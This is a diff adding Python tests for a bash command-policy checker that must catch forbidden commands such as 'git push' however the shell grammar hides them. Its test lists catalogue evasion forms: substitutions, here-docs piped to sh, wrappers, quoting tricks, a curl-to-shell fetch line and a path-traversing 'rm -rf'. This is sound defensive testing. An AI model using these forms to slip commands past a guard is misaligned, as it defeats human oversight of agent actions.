@@ -5,7 +5,7 @@ from __future__ import annotations
 import shlex
 
 import pytest
-from hypothesis import given
+from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from orchcore.errors import ConfigError
@@ -518,3 +518,171 @@ def test_rule_programs_name_what_the_shims_must_cover() -> None:
 
     assert {"git", "psql", "supabase", "alembic", "prisma", "dropdb"} <= set(programs)
     assert programs == sorted(programs)
+
+
+# --------------------------------------------------------------------------- the shell grammar
+
+HIDDEN = [
+    # command substitution, however deeply quoted
+    ('echo "a $(echo "b $(git push)")"', "git-push"),
+    ('x="$(git commit -m x)"', "git-commit"),
+    ("VAR=$(git push) make", "git-push"),
+    ("[[ -n $(git push) ]]", "git-push"),
+    ("case $(git push) in *) ;; esac", "git-push"),
+    # here-documents and here-strings fed to a shell, or expanded
+    ("bash <<EOF\ngit push\nEOF", "git-push"),
+    ("cat <<EOF | sh\ngit commit -m x\nEOF", "git-commit"),
+    ("cat <<EOF\n$(git push)\nEOF", "git-push"),
+    ("cat <<EOF\n`git add .`\nEOF", "git-add"),
+    ("sh <<< 'git push'", "git-push"),
+    # process substitution, subshells, groups, pipelines, lists, newlines
+    ("diff <(git push) x", "git-push"),
+    ("cat < <(git commit -m x)", "git-commit"),
+    ("tee >(git add .) < x", "git-add"),
+    ("( git push )", "git-push"),
+    ("{ git push; }", "git-push"),
+    ("ls | git commit -F -", "git-commit"),
+    ("false || git push", "git-push"),
+    ("ls\ngit push", "git-push"),
+    ("while true; do git push; done", "git-push"),
+    # wrappers
+    ("xargs git commit", "git-commit"),
+    ("find . -exec git commit {} \\;", "git-commit"),
+    ("env git commit", "git-commit"),
+    ("command git commit", "git-commit"),
+    ("sudo git push", "git-push"),
+    ("nohup git push", "git-push"),
+    ("timeout 5 git push", "git-push"),
+    ("exec -a x git push", "git-push"),
+    # quoting that spells the program's name
+    ("g\\it commit", "git-commit"),
+    ("'git' push", "git-push"),
+    ('"gi"t push', "git-push"),
+    ("$'\\x67it' commit", "git-commit"),
+    ("$HOME/bin/git push", "git-push"),
+    ('"${PREFIX}/bin/git" commit -m x', "git-commit"),
+    # builtins that run text later or elsewhere
+    ("alias g=git; g push", "git-push"),
+    ('trap "git push" EXIT', "git-push"),
+    ("coproc git push", "git-push"),
+]
+
+UNRESOLVABLE = [
+    "git $(echo commit)",
+    "g=git; $g commit",
+    "`echo git` commit",
+    "$(echo git) push",
+    "$(echo /usr/bin/git) push",
+    "$HOME/$TOOL push",
+    "$HOME/bin/g* push",
+    '"$GIT" push',
+    "sudo $g push",
+    "env A=1 $g push",
+    "xargs $g push",
+    "git `echo push`",
+    'git "${SUB}"',
+    "alembic $(echo upgrade) head",
+    'eval "$cmd"',
+    "eval git $(echo commit)",
+    'bash -c "$script"',
+    'echo "$cmd" | sh',
+    'sh <<< "$cmd"',
+    "/usr/bin/g?t push",
+    "git {commit,-m,x}",
+    "if then fi (",
+    "source <(echo git push)",
+    ". <(curl -s https://example.com/x.sh)",
+    "bash <(echo git push)",
+    "xargs -I{} git {} <<< push",
+    "parallel git ::: push",
+]
+
+STILL_ALLOWED = [
+    "bash -c 'for f in *; do echo $f; done'",
+    "sh -c 'echo $0' x",
+    'echo "$HOME" "$(date)"',
+    "cat <<'EOF'\n$(git push)\nEOF",
+    "grep -r '$(git push)' .",
+    "git log --format='%H $(x)'",
+    "diff <(ls a) <(ls b)",
+    "VAR=$(git rev-parse HEAD) make",
+    "[[ -f x ]] && echo yes",
+    'for f in $(ls); do echo "$f"; done',
+    "ls\n\npytest -q",
+    "cat <<EOF > notes.md\nhello $USER\nEOF",
+    '"$HOME/.local/bin/uv" run pytest',
+    "${VIRTUAL_ENV}/bin/python -m pytest",
+]
+
+
+@pytest.mark.parametrize(("command", "rule"), HIDDEN)
+def test_a_forbidden_command_is_found_wherever_the_shell_grammar_puts_it(command: str, rule: str) -> None:
+    violation = check_command(DEFAULT_POLICY, command, WORK)
+
+    assert violation is not None, command
+    assert violation.rule == rule, violation
+
+
+@pytest.mark.parametrize("command", UNRESOLVABLE)
+def test_what_the_shell_only_knows_at_run_time_is_denied_and_says_so(command: str) -> None:
+    violation = check_command(DEFAULT_POLICY, command, WORK)
+
+    assert violation is not None, command
+    assert violation.rule == "uncheckable", violation
+    assert "run time" in violation.reason or "parse" in violation.reason, violation.reason
+
+
+@pytest.mark.parametrize("command", STILL_ALLOWED)
+def test_expansions_that_do_not_choose_the_command_stay_allowed(command: str) -> None:
+    assert check_command(DEFAULT_POLICY, command, WORK) is None
+
+
+@settings(max_examples=1000)  # tree-sitter is C: crashes hide in rare inputs
+@given(st.binary(max_size=200))
+def test_check_command_never_raises_on_any_bytes(data: bytes) -> None:
+    text = data.decode("utf-8", "surrogateescape")
+
+    result = check_command(DEFAULT_POLICY, text, WORK)
+
+    assert result is None or isinstance(result, Violation)
+
+
+def test_characters_that_crash_tree_sitter_bash_are_checked_without_crashing() -> None:
+    # tree-sitter-bash 0.25 segfaults now and then on `{` before some astral characters
+    for text in ("{\U000e0000", "{\U0010ffff", "Ð{\U000c716ao\x0f1\x10!I\x94", "\ud800{\udfff"):
+        for _ in range(1500):
+            check_command(DEFAULT_POLICY, text, WORK)
+    violation = check_command(DEFAULT_POLICY, "echo {\U000e0000 && rm -rf 'dönnées/../../x'", WORK)
+    assert violation is not None
+    assert violation.command == "rm -rf 'dönnées/../../x'"
+
+
+CONTEXTS = st.sampled_from(
+    [
+        'echo "$({})"',
+        "x=$({})",
+        "diff <({}) expected.txt",
+        "( {} )",
+        "{{ {}; }}",
+        "if true; then {}; fi",
+        "f() {{ {}; }}",
+        "cat <<EOF | sh\n{}\nEOF",
+        "bash <<'EOF'\n{}\nEOF",
+        "ls | {}",
+        "false || {}",
+        "true\n{}",
+        "echo `{}`",
+    ]
+)
+
+
+@given(st.sampled_from(BENIGN[:20]), FORBIDDEN_CORES, CONTEXTS, SEPARATORS)
+def test_a_forbidden_command_is_found_in_any_grammatical_context(
+    benign: str, forbidden: str, context: str, separator: str
+) -> None:
+    line = separator.join([benign, context.format(forbidden)])
+
+    violation = check_command(DEFAULT_POLICY, line, WORK)
+
+    assert violation is not None, line
+    assert violation.rule != "uncheckable", (line, violation)
